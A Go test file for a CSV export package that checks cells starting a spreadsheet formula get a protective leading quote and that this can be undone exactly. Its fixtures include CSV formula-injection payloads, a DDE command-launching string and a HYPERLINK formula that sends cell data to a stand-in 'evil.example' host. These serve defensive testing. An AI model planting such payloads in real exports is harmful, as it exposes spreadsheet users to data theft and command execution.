package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestSafeCell: the OWASP list of formula starters gets a quote in front,
// a leading quote gets another (so OriginalCell undoes it exactly), and
// everything else is left alone.
func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"'=1+1", "''=1+1"},
		{"'tis the season", "''tis the season"},
		{"", ""},
		{"plain text", "plain text"},
		{"a=b+c", "a=b+c"},
		{" =1+1", " =1+1"},
		{"\n=1", "\n=1"},
		{"0x5FbDB2315678afecb367f032d93F642f64180aa3", "0x5FbDB2315678afecb367f032d93F642f64180aa3"},
		{"bafkreitask0001", "bafkreitask0001"},
		{"１＝１", "１＝１"},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := OriginalCell(SafeCell(tt.in)); back != tt.in {
			t.Errorf("OriginalCell(SafeCell(%q)) = %q", tt.in, back)
		}
	}
}

// TestCSVFormulaInjection: every text cell of an exported row, whatever
// record field it comes from, is defused; the numeric columns are written
// as numbers.
func TestCSVFormulaInjection(t *testing.T) {
	const payload = `=HYPERLINK("http://evil.example/"&A1,"x")`
	tests := []struct {
		column string
		set    func(r *Record)
	}{
		{"task", func(r *Record) { r.Task = payload }},
		{"text", func(r *Record) { r.Text = payload }},
		{"text", func(r *Record) { r.Text = "@SUM(1+1)*cmd|' /C calc'!A0" }},
		{"text", func(r *Record) { r.Text = "-1 star, would not buy again" }},
		{"text", func(r *Record) { r.Text = "\t=1+1" }},
		{"text", func(r *Record) { r.Text = "\r=1+1" }},
		{"labels", func(r *Record) { r.Labels = []Label{{ID: "pos", Name: "+1 positive"}} }},
		{"label_ids", func(r *Record) { r.Labels = []Label{{ID: "-1", Name: "minus one"}} }},
		{"task_cid", func(r *Record) { r.TaskCID = payload }},
		{"hub", func(r *Record) { r.Hub = payload }},
		{"campaign", func(r *Record) { r.Campaign = "-1" }},
		{"tx", func(r *Record) { r.Tx = payload }},
		{"annotator_1", func(r *Record) { r.Votes[0].Annotator = "@" + a1 }},
		{"annotator_1_label_ids", func(r *Record) { r.Votes[0].Labels = []Label{{ID: "=x", Name: "x"}} }},
		{"annotator_1_label_doc", func(r *Record) { r.Votes[0].LabelDoc = payload }},
	}
	for _, tt := range tests {
		t.Run(tt.column, func(t *testing.T) {
			r := sampleRecords()[0]
			tt.set(r)
			orig := map[string]string{
				"task": r.Task, "text": r.Text, "labels": strings.Join(labelNames(r.Labels), LabelSeparator),
				"label_ids": strings.Join(labelIDs(r.Labels), LabelSeparator), "task_cid": r.TaskCID,
				"hub": r.Hub, "campaign": r.Campaign, "tx": r.Tx, "annotator_1": r.Votes[0].Annotator,
				"annotator_1_label_ids": strings.Join(labelIDs(r.Votes[0].Labels), LabelSeparator),
				"annotator_1_label_doc": r.Votes[0].LabelDoc,
			}[tt.column]
			// encoding/csv with CRLF line ends drops carriage returns from
			// fields: "\r=1+1" would reach the file as "=1+1".
			orig = strings.ReplaceAll(orig, "\r", "")

			var buf bytes.Buffer
			w := NewCSVWriter(&buf, 3)
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := -1
			for i, h := range rows[0] {
				if h == tt.column {
					col = i
				}
			}
			cell := rows[1][col]
			if cell != "'"+orig {
				t.Errorf("column %s: cell %q, want %q with a quote in front", tt.column, cell, orig)
			}
			if OriginalCell(cell) != orig {
				t.Errorf("column %s: OriginalCell gives %q, want %q", tt.column, OriginalCell(cell), orig)
			}
			// Nothing else in the row starts a formula.
			for i, c := range rows[1] {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("column %s: cell %q starts a formula", rows[0][i], c)
				}
			}
			// The integer columns stay numbers.
			for i, h := range rows[0] {
				switch h {
				case "chain_id", "chunk", "agreeing", "k":
					if c := rows[1][i]; c == "" || strings.Trim(c, "0123456789") != "" {
						t.Errorf("column %s: %q is not a plain number", h, c)
					}
				}
			}
		})
	}
}
